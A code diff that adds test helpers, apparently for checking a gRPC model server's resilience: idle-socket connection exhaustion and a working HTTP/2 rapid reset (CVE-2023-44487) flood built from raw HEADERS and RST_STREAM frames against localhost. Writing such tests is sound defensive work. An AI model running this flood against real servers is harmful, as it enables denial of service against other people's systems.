@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import re
 import socket
+import time
 from typing import NamedTuple
 
 
@@ -115,3 +116,97 @@ def declared(dtype: int, dims: list[int], **fields):
     for size in dims:
         proto.tensor_shape.dim.add(size=size)
     return proto
+
+
+# --- Connections: idle sockets, rapid reset ------------------------------------------------------
+
+
+def idle_sockets(port: int, count: int, timeout: float = 5.0) -> list[socket.socket]:
+    """`count` connections to 127.0.0.1:port that send nothing (as many as the server
+    accepts). The caller closes them."""
+    held = []
+    for _ in range(count):
+        try:
+            held.append(socket.create_connection(("127.0.0.1", port), timeout=timeout))
+        except OSError:
+            break
+    return held
+
+
+def closed_by_server(sock: socket.socket) -> bool:
+    """True if the server has closed `sock` (EOF or reset), without waiting; what the server
+    sent before (an HTTP/2 server's SETTINGS) is read and dropped."""
+    sock.setblocking(False)
+    try:
+        while sock.recv(65536):
+            pass
+        return True
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
+    finally:
+        sock.setblocking(True)
+
+
+HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+PREDICT_PATH = b"/tensorflow.serving.PredictionService/Predict"
+
+
+def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """One HTTP/2 frame (RFC 9113 section 4.1)."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def grpc_call_headers(path: bytes = PREDICT_PATH) -> bytes:
+    """The HPACK block of a gRPC call's HEADERS: static-table entries and literals without
+    indexing (RFC 7541), so every stream's block is the same bytes."""
+    def literal(index: int, value: bytes) -> bytes:  # literal without indexing, indexed name (index < 15)
+        return bytes([index, len(value)]) + value
+    return (b"\x83\x86"  # :method POST, :scheme http
+            + literal(4, path) + literal(1, b"x")  # :path, :authority
+            + b"\x0f\x10" + bytes([16]) + b"application/grpc"  # content-type (static index 31)
+            + b"\x00\x02te\x08trailers")
+
+
+def rapid_reset(port: int, streams: int = 50_000, batch: int = 500) -> dict:
+    """HTTP/2 rapid reset (CVE-2023-44487) on one connection: `streams` gRPC calls opened
+    with HEADERS and cancelled at once with RST_STREAM, sent as fast as the socket takes
+    them. Returns the streams sent, the seconds taken and whether the server closed the
+    connection (GOAWAY or EOF)."""
+    import threading
+
+    sock = socket.create_connection(("127.0.0.1", port))
+    done, closed = threading.Event(), threading.Event()
+
+    def drain():  # the server's SETTINGS, RST_STREAMs and GOAWAY: read, so its writes never block
+        while not done.is_set():
+            try:
+                if not sock.recv(65536):
+                    break
+            except OSError:
+                break
+        if not done.is_set():
+            closed.set()
+        done.set()
+
+    sock.sendall(HTTP2_PREFACE + http2_frame(4, 0, 0) + http2_frame(4, 1, 0))  # SETTINGS, ACK of the server's
+    reader = threading.Thread(target=drain, daemon=True)
+    reader.start()
+    headers = grpc_call_headers()
+    sent, started = 0, time.monotonic()
+    try:
+        while sent < streams and not done.is_set():
+            frames = bytearray()
+            for stream in range(2 * sent + 1, 2 * (sent + batch) + 1, 2):
+                frames += http2_frame(1, 0x4, stream, headers)  # HEADERS, END_HEADERS
+                frames += http2_frame(3, 0, stream, (8).to_bytes(4, "big"))  # RST_STREAM CANCEL
+            sock.sendall(frames)
+            sent += batch
+    except OSError:
+        pass
+    seconds = time.monotonic() - started
+    closed_by_server = closed.is_set()
+    done.set()
+    sock.close()
+    return {"streams": min(sent, streams), "seconds": seconds, "closed_by_server": closed_by_server}
